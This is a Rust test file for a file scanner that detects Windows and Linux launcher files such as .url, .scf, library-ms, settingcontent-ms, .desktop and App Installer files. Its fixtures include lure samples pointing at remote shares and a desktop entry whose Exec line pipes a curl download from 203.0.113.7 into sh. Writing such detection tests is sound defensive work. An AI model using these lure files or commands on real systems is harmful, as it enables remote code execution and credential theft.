//! Launchers: Internet shortcuts, shell command files, desktop entries,
//! libraries, search connectors and settings shortcuts are types of the
//! shortcut group (blocked in chat as LNK is), told by content; one that
//! points at a share or a `file:` URL is `launcher.remote_target`.

use crate::util::*;
use xferscan::Verdict;

fn true_type(r: &xferscan::Report) -> String {
    r.true_type()
        .map(|t| t.name().to_owned())
        .unwrap_or_default()
}

#[test]
fn an_internet_shortcut_to_a_web_site_is_a_blocked_shortcut() {
    let r = scan(
        "news.url",
        b"[InternetShortcut]\r\nURL=https://example.com/news\r\n".to_vec(),
    );
    assert_eq!(true_type(&r), "url");
    assert!(has_key(&r, "type.shortcut"), "{:?}", keys(&r));
    assert!(!has_key(&r, "launcher.remote_target"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn an_internet_shortcut_to_a_share_or_a_file_is_a_remote_target() {
    for body in [
        "[InternetShortcut]\r\nURL=file://203.0.113.7/share/invoice.exe\r\n",
        "[InternetShortcut]\r\nURL=\\\\203.0.113.7\\share\\invoice.exe\r\n",
        "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,0\r\n[InternetShortcut]\r\nIDList=\r\nURL=file:///C:/x.exe\r\n",
        "[DEFAULT]\r\nBASEURL=file:///C:/x.exe\r\n[InternetShortcut]\r\nURL=file:///C:/x.exe\r\n",
        "[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\203.0.113.7\\s\\i.ico\r\nIconIndex=1\r\n",
    ] {
        let r = scan("doc.url", body.as_bytes().to_vec());
        assert_eq!(true_type(&r), "url", "{body}");
        assert!(
            has_key(&r, "launcher.remote_target"),
            "{body}: {:?}",
            keys(&r)
        );
    }
}

#[test]
fn detected_by_content_whatever_the_name() {
    let r = scan(
        "readme.txt",
        b"[InternetShortcut]\nURL=file:///C:/Windows/System32/calc.exe\n".to_vec(),
    );
    assert_eq!(true_type(&r), "url");
    assert!(has_key(&r, "launcher.remote_target"));
    assert!(has_key(&r, "name.extension_mismatch"), "{:?}", keys(&r));
}

#[test]
fn a_launcher_padded_past_the_text_window_or_in_a_legacy_encoding() {
    // Past the 4 KiB that text detection reads: many translated names, a
    // long first section, a byte that is not UTF-8 (Latin-1 "é").
    let names: String = (0..300)
        .map(|i| format!("GenericName[x{i}]=Filtres bas\u{e9}s sur XSLT\n"))
        .collect();
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "readme.txt",
            format!("[Desktop Entry]\nType=Application\nExec=sh -c 'curl x|sh'\n{names}").into_bytes(),
            "desktop",
        ),
        (
            "readme.txt",
            format!(
                "[{{000214A0-0000-0000-C000-000000000046}}]\r\nProp3=19,0\r\n{names}[InternetShortcut]\r\nURL=file:///C:/x.exe\r\n"
            )
            .into_bytes(),
            "url",
        ),
        (
            "notes.txt",
            b"[InternetShortcut]\r\nURL=file:///C:/x.exe\r\nComment=R\xe9sum\xe9\r\n".to_vec(),
            "url",
        ),
    ];
    for (name, body, ty) in cases {
        let r = scan(name, body);
        assert_eq!(true_type(&r), ty, "{:?}", keys(&r));
        assert!(has_key(&r, "type.shortcut"), "{:?}", keys(&r));
    }
}

#[test]
fn a_shell_command_file_with_an_icon_on_a_share() {
    let r = scan(
        "@desktop.scf",
        b"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.7\\share\\icon.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n"
            .to_vec(),
    );
    assert_eq!(true_type(&r), "scf");
    assert!(has_key(&r, "launcher.remote_target"), "{:?}", keys(&r));
}

#[test]
fn a_library_and_a_search_connector_over_webdav() {
    let lib = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n\
        <libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\">\r\n\
        <name>@shell32.dll,-34575</name><version>6</version>\r\n\
        <searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>\r\n\
        <url>\\\\203.0.113.7@SSL\\DavWWWRoot\\docs</url>\r\n\
        </simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\r\n";
    let r = scan("Documents.library-ms", lib.as_bytes().to_vec());
    assert_eq!(true_type(&r), "library-ms");
    assert!(has_key(&r, "launcher.remote_target"), "{:?}", keys(&r));
    let sc = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n\
        <searchConnectorDescription xmlns=\"http://schemas.microsoft.com/windows/2009/searchConnector\">\r\n\
        <description>Files</description><isSearchOnlyItem>false</isSearchOnlyItem>\r\n\
        <simpleLocation><url>https://203.0.113.7/webdav/</url></simpleLocation>\r\n\
        </searchConnectorDescription>\r\n";
    let r = scan("files.searchConnector-ms", sc.as_bytes().to_vec());
    assert_eq!(true_type(&r), "searchconnector-ms");
    assert!(has_key(&r, "launcher.remote_target"), "{:?}", keys(&r));
}

#[test]
fn a_settings_shortcut_and_a_desktop_entry() {
    let s = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<PCSettings>\r\n  <SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\">\r\n\
        <ApplicationInformation><AppID>windows.immersivecontrolpanel_cw5n1h2txyewy!microsoft.windows.immersivecontrolpanel</AppID>\r\n\
        <DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink><Icon>%windir%\\system32\\control.exe</Icon>\r\n\
        </ApplicationInformation></SearchableContent>\r\n</PCSettings>\r\n";
    let r = scan("x.settingcontent-ms", s.as_bytes().to_vec());
    assert_eq!(true_type(&r), "settingcontent-ms");
    assert_eq!(r.verdict, Verdict::Malicious);
    let d = "#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\nName=Invoice\nExec=sh -c 'curl -s https://203.0.113.7/x | sh'\nIcon=x-office-document\n";
    let r = scan("invoice.desktop", d.as_bytes().to_vec());
    // A shebang line first: the script detector calls it a script; the
    // desktop entry's own form has no shebang.
    let d2 = &d[d.find('[').unwrap()..];
    let r2 = scan("invoice.desktop", d2.as_bytes().to_vec());
    assert_eq!(true_type(&r2), "desktop");
    assert_eq!(r2.verdict, Verdict::Malicious);
    assert_ne!(r.verdict, Verdict::Clean, "{:?}", keys(&r));
}

#[test]
fn a_launcher_inside_an_archive_is_blocked() {
    let z = zip_of(
        &[(
            "link.url",
            b"[InternetShortcut]\r\nURL=file:///C:/x.exe\r\n",
        )],
        Method::Stored,
    );
    let r = scan("a.zip", z);
    assert!(has_key(&r, "launcher.remote_target"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn ordinary_ini_xml_and_prose_are_not_launchers() {
    let ini =
        "; app settings\r\n[Shell]\r\nTheme=dark\r\nCommand=open\r\n[Window]\r\nWidth=800\r\n";
    let r = scan("app.ini", ini.as_bytes().to_vec());
    assert_eq!(true_type(&r), "text");
    assert_clean(&r);
    let prose = "To add a launcher, write a file with a [Desktop Entry] section whose Exec= line names the program.\n";
    assert_clean(&scan("notes.txt", prose.as_bytes().to_vec()));
    let xml = "<?xml version=\"1.0\"?><library><url>https://example.com/</url></library>";
    assert_clean(&scan("books.xml", xml.as_bytes().to_vec()));
    let git = "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = https://example.com/r.git\n";
    assert_clean(&scan("config", git.as_bytes().to_vec()));
}

/// An App Installer file installs the package its URL serves (the
/// `ms-appinstaller` lures); it is a launcher whatever its name.
#[test]
fn an_app_installer_file() {
    let a = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n\
        <AppInstaller Uri=\"https://203.0.113.7/app.appinstaller\" Version=\"1.0.0.0\" \
        xmlns=\"http://schemas.microsoft.com/appx/appinstaller/2018\">\r\n\
        <MainBundle Name=\"Teams\" Publisher=\"CN=x\" Version=\"1.0.0.0\" Uri=\"https://203.0.113.7/app.msixbundle\" />\r\n\
        </AppInstaller>\r\n";
    for name in ["update.appinstaller", "update.xml", "update.txt"] {
        let r = scan(name, a.as_bytes().to_vec());
        assert_eq!(true_type(&r), "appinstaller", "{name}");
        assert!(has_key(&r, "launcher.remote_target"), "{:?}", keys(&r));
        assert_eq!(r.verdict, Verdict::Malicious, "{name}");
    }
    // Control: XML that mentions it.
    let x = "<?xml version=\"1.0\"?>\n<notes><p>AppInstaller files carry a Uri.</p></notes>\n";
    assert_clean(&scan("notes.xml", x.as_bytes().to_vec()));
}

/// Explorer reads `.url` and `.scf` files as Windows reads INI files,
/// looking the section up by name: other sections, keys or a stray line
/// before it change nothing.
#[test]
fn a_launcher_section_after_other_lines_is_read() {
    for (body, ty) in [
        (
            "[Other]\r\nA=1\r\n[InternetShortcut]\r\nURL=file://203.0.113.7/s/x.exe\r\n",
            "url",
        ),
        (
            "Junk=1\r\n[InternetShortcut]\r\nURL=file://203.0.113.7/s/x.exe\r\n",
            "url",
        ),
        (
            "hello\r\n[internetshortcut]\r\nURL=\\\\203.0.113.7\\s\\x.exe\r\n",
            "url",
        ),
        (
            "[Taskbar]\r\nCommand=ToggleDesktop\r\n[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.7\\s\\i.ico\r\n",
            "scf",
        ),
    ] {
        for r in [
            scan("notes.txt", body.as_bytes().to_vec()),
            scan("", body.as_bytes().to_vec()),
        ] {
            assert_eq!(true_type(&r), ty, "{body}");
            assert!(
                has_key(&r, "launcher.remote_target"),
                "{body}: {:?}",
                keys(&r)
            );
        }
    }
    // Prose that shows such a file's text is not one.
    let prose = "An Internet shortcut is a small text file.\nIt has a section:\n\
        [InternetShortcut]\nURL=https://example.com/\nand Windows opens the URL.\n\
        More lines of explanation follow here.\nAnd here.\n";
    let r = scan("notes.txt", prose.as_bytes().to_vec());
    assert_eq!(true_type(&r), "text");
    assert_clean(&r);
}
